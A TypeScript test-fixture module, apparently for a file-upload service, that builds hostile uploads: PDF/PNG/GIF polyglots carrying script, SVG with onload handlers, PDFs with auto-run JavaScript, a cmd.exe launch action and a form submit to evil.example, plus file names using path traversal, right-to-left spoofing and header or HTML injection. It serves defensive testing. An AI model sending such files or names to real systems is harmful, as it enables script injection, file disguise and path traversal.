import PDFDocument from 'pdfkit';
import { PNG } from 'pngjs';

/** A small true PDF, with a password when one is given. */
export function aPdf(options: { readonly password?: string; readonly text?: string } = {}): Promise<Buffer> {
  return new Promise((resolve, reject) => {
    const parts: Buffer[] = [];
    const document = new PDFDocument({
      size: 'A5',
      ...(options.password === undefined ? {} : { userPassword: options.password }),
    });
    document.on('data', (part: Buffer) => parts.push(part));
    document.on('end', () => resolve(Buffer.concat(parts)));
    document.on('error', reject);
    document.text(options.text ?? 'Giay to');
    document.end();
  });
}

export function aPng(): Buffer {
  const png = new PNG({ width: 40, height: 40 });
  png.data.fill(200);
  return PNG.sync.write(png);
}

/** A PDF by hand whose catalogue holds one more entry, such as an action that runs when it is opened. */
export function pdfWith(catalogue: string, more = ''): Buffer {
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
    ...(more === '' ? [] : [more]),
  ];
  let text = '%PDF-1.7\n';
  const places = objects.map((object, n) => {
    const at = text.length;
    text += `${n + 1} 0 obj\n${object}\nendobj\n`;
    return at;
  });
  const start = text.length;
  const entries = places.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('');
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${entries}`;
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}

const script = '<script>window.top.__ran=1;alert(1)</script>';
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`;
const zipEnd = Buffer.from([0x50, 0x4b, 0x05, 0x06, ...Array.from({ length: 18 }, () => 0)]);

export interface Hostile {
  readonly what: string;
  readonly name: string;
  readonly type: string;
  readonly bytes: Buffer;
}

/** Files that are two things at once, that lie about what they are, or that act when they are opened. */
export async function hostileFiles(): Promise<readonly Hostile[]> {
  const pdf = await aPdf();
  const png = aPng();
  const as = (what: string, name: string, type: string, bytes: Buffer | string): Hostile => ({
    what,
    name,
    type,
    bytes: Buffer.isBuffer(bytes) ? bytes : Buffer.from(bytes),
  });
  const javascript = '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>';
  return [
    as('HTML before PDF', 'a.pdf', 'application/pdf', Buffer.concat([Buffer.from(`<html>${script}`), pdf])),
    as('HTML after PDF', 'a.pdf', 'application/pdf', Buffer.concat([pdf, Buffer.from(`<html>${script}`)])),
    as('PDF and zip', 'a.pdf', 'application/pdf', Buffer.concat([pdf, zipEnd])),
    as('GIF and script', 'a.gif', 'image/gif', `GIF89a/*${'\0'.repeat(8)}*/=1;alert(1)`),
    as('GIF named PNG', 'a.png', 'image/png', 'GIF89a/**/=1;alert(1)'),
    as('SVG', 'a.svg', 'image/svg+xml', svg),
    as('SVG named PNG', 'a.png', 'image/png', svg),
    as('HTML named PDF', 'a.pdf', 'application/pdf', `<!doctype html>${script}`),
    as('script named JPEG', 'a.jpg', 'image/jpeg', 'alert(1)'),
    as('PNG with HTML behind', 'a.png', 'image/png', Buffer.concat([png, Buffer.from(`<html>${script}`)])),
    as('PNG and zip', 'a.png', 'image/png', Buffer.concat([png, zipEnd])),
    as('PNG named PDF', 'a.pdf', 'application/pdf', png),
    as('PDF named PNG', 'a.png', 'image/png', pdf),
    as('PDF that runs a script', 'a.pdf', 'application/pdf', pdfWith(javascript)),
    as('PDF that launches', 'a.pdf', 'application/pdf', pdfWith('/OpenAction << /S /Launch /F (cmd.exe) >>')),
    as(
      'PDF with hidden names',
      'a.pdf',
      'application/pdf',
      pdfWith('/OpenAction << /S /Ja#76aScript /JS (app.alert(1)) >>'),
    ),
    as(
      'PDF with an embedded file',
      'a.pdf',
      'application/pdf',
      pdfWith(
        '/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>',
        '<< /Type /Filespec /F (a.exe) /EF << /F 3 0 R >> >>',
      ),
    ),
    as(
      'PDF that submits',
      'a.pdf',
      'application/pdf',
      pdfWith('/OpenAction << /S /SubmitForm /F (http://evil.example) >>'),
    ),
    as('executable named PDF', 'a.pdf', 'application/pdf', Buffer.from([0x4d, 0x5a, 0x90, 0, 3, 0, 0, 0])),
    as('true PDF called HTML', 'a.pdf', 'text/html', pdf),
  ];
}

/** Names that reach for another folder, another system or another line. */
export const hostileNames: readonly string[] = [
  '../../../../etc/passwd.pdf',
  '..\\..\\windows\\system32\\a.pdf',
  '/etc/cron.d/a.pdf',
  'C:\\a.pdf',
  'giấy\u202efdp.exe.pdf',
  `${'dài'.repeat(100)}.pdf`,
  'Giấy khai sinh.pdf'.normalize('NFD'),
  'CON.pdf',
  'nul.pdf',
  'a\tb.pdf',
  'emoji 😀👩‍👩‍👧.pdf',
  '"quoted" \'name\'.pdf',
  'a;filename=evil.html.pdf',
  '.htaccess.pdf',
  '....pdf',
  '<img src=x onerror=alert(1)>.pdf',
];

/** A multipart body with one file, written by hand so that any name can stand in it. */
export function multipart(
  field: string,
  file: { readonly name: string; readonly type: string; readonly bytes: Buffer },
): { readonly headers: Record<string, string>; readonly body: Buffer } {
  const boundary = 'motcua-faults-boundary';
  const name = file.name.replaceAll('"', '%22');
  const head = `--${boundary}\r\nContent-Disposition: form-data; name="${field}"; filename="${name}"\r\nContent-Type: ${file.type}\r\n\r\n`;
  return {
    headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
    body: Buffer.concat([Buffer.from(head), file.bytes, Buffer.from(`\r\n--${boundary}--\r\n`)]),
  };
}
